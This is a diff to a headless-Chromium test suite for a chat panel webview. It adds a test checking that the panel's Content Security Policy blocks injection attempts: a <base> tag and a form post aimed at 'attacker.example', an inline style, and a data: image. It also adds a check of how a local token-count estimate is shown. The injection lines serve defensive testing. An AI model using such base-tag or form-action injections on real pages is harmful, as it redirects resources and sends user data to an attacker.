@@ -87,6 +87,37 @@ describe('webview: chat panel (headless Chromium)', function () {
     assert.ok(await page.evaluate(() => [...document.fonts].some((f) => f.family.includes('codicon') && f.status === 'loaded')));
   });
 
+  it('the CSP refuses <base>, form submission, inline styles and data: images, and the panel needs none', async () => {
+    // The panel rendered above without a violation (afterEach); now try what an injection would use.
+    const violations = await page.evaluate(async () => {
+      const w = window as unknown as { __csp: string[] };
+      w.__csp.length = 0;
+      const base = document.createElement('base');
+      base.href = 'https://attacker.example/';
+      document.head.append(base);
+      const form = document.createElement('form');
+      form.action = 'https://attacker.example/collect';
+      form.method = 'post';
+      document.body.append(form);
+      form.requestSubmit();
+      const style = document.createElement('style');
+      style.textContent = 'body { background: red; }';
+      document.head.append(style);
+      const img = document.createElement('img');
+      img.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+      document.body.append(img);
+      await new Promise((r) => setTimeout(r, 300));
+      for (const el of [base, form, style, img]) el.remove();
+      // Reports can arrive late (and <base> is reported again as URLs resolve): wait, then take all.
+      await new Promise((r) => setTimeout(r, 300));
+      const found = [...new Set(w.__csp.map((v) => v.split(' ')[0]))].sort();
+      w.__csp.length = 0;
+      return found;
+    });
+    assert.deepEqual(violations, ['base-uri', 'form-action', 'img-src', 'style-src-elem']);
+    assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)'), false);
+  });
+
   it('Enter sends, Shift+Enter adds a line, and the box empties', async () => {
     await clearPosted(page);
     const box = page.locator('#prompt');
@@ -251,6 +282,10 @@ describe('webview: chat panel (headless Chromium)', function () {
     await waitPosted(page, (m) => m.type === 'draft' && m.text === 'unsent question', 'draft');
     await send(page, { type: 'draftTokens', count: 1234, contextLength: 131072 });
     await page.locator('.draft-tokens', { hasText: '1,234 / 128K tokens' }).waitFor();
+    // A local estimate (nothing sent, or counting failed) is marked ≈ and says why on hover.
+    await send(page, { type: 'draftTokens', count: 12, estimated: 'Kimi could not count the tokens (offline); this is a local estimate.' });
+    await page.locator('.draft-tokens', { hasText: '≈12 tokens' }).waitFor();
+    assert.match((await page.locator('.draft-tokens').getAttribute('title')) ?? '', /could not count.*local estimate/);
 
     await page.reload();
     await waitPosted(page, (m) => m.type === 'ready', 'ready after reload');
